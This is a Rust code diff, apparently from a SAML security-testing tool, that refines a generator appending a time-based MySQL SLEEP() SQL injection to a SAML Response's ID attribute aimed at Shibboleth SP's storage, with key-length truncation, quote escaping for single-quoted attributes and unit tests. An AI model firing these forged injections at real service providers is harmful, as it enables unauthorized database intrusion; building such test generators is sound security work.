@@ -14,9 +14,13 @@ use crate::forge::{Forge, Skip};
 /// The seconds the injected `SLEEP()` asks MySQL for.
 pub const SQL_SLEEP_SECONDS: u32 = 3;
 
-/// The least time every injected post must take to count: the delay asked for, less a second
-/// for a database that starts timing late.
+/// How much longer than its round's yardstick every injected post must take to count: the
+/// delay asked for, less a second for a database that starts timing late.
 pub const SQL_SLEEP_FLOOR: Duration = Duration::from_secs(SQL_SLEEP_SECONDS as u64 - 1);
+
+/// The longest key Shibboleth SP's storage looks up as it is (a longer one is hashed first,
+/// and the hash carries no SQL).
+const LONGEST_KEY: usize = 255;
 
 /// What follows the Response's own ID: a backslash and two quotes end a MySQL string literal
 /// whether the SP doubles quotes (Shibboleth SP ≤ 3.5.0: `\''''` is an escaped quote, an
@@ -39,9 +43,22 @@ pub fn response_id_sql(f: &Forge) -> Result<Burden, Skip> {
         .then(|| attr_value(root, "ID"))
         .flatten()
         .ok_or_else(|| Skip::NotApplicable("the message is not a Response with an ID".into()))?;
+    // Room for the tail within the longest key looked up as it is.
+    let room = LONGEST_KEY - sql_tail(SQL_SLEEP_SECONDS).len();
+    let own = &doc.src[id.clone()];
+    let own = own
+        .char_indices()
+        .nth(room)
+        .map_or(own, |(end, _)| &own[..end]);
+    // In an attribute written between single quotes, the tail's quotes are references.
+    let single_quoted = doc.src[..id.start].ends_with('\'');
     let with = |seconds: u32| {
-        let value = format!("{}{}", &doc.src[id.clone()], sql_tail(seconds));
-        bytes::splice(doc.src, vec![(id.clone(), value)])
+        let tail = sql_tail(seconds);
+        let tail = match single_quoted {
+            true => tail.replace('\'', "&apos;"),
+            false => tail,
+        };
+        bytes::splice(doc.src, vec![(id.clone(), format!("{own}{tail}"))])
     };
     let burden = with(SQL_SLEEP_SECONDS);
     Ok(Burden {
@@ -56,5 +73,42 @@ pub fn response_id_sql(f: &Forge) -> Result<Burden, Skip> {
         by_redirect: false,
         crash: false,
         oversize: false,
+        delay: true,
     })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn id_of(burden: &Burden) -> String {
+        use base64::Engine;
+        let xml = base64::engine::general_purpose::STANDARD
+            .decode(&burden.encoded)
+            .unwrap();
+        let xml = String::from_utf8(xml).unwrap();
+        let doc = roxmltree::Document::parse(&xml).unwrap();
+        doc.root_element().attribute("ID").unwrap().to_owned()
+    }
+
+    fn burden_of(seed: &str) -> Burden {
+        response_id_sql(&Forge::bare(seed)).unwrap()
+    }
+
+    #[test]
+    fn the_tail_follows_the_id_in_either_quoting_and_the_key_stays_short() {
+        let tail = sql_tail(SQL_SLEEP_SECONDS);
+        let ns = PROTOCOL_NS;
+        let double = format!(r#"<samlp:Response xmlns:samlp="{ns}" ID="_abc"/>"#);
+        assert_eq!(id_of(&burden_of(&double)), format!("_abc{tail}"));
+        let single = format!(r#"<samlp:Response xmlns:samlp="{ns}" ID='_abc'/>"#);
+        assert_eq!(id_of(&burden_of(&single)), format!("_abc{tail}"));
+        let long = format!(
+            r#"<samlp:Response xmlns:samlp="{ns}" ID="_{}"/>"#,
+            "a".repeat(300)
+        );
+        let id = id_of(&burden_of(&long));
+        assert_eq!(id.len(), LONGEST_KEY);
+        assert!(id.ends_with(&tail));
+    }
 }
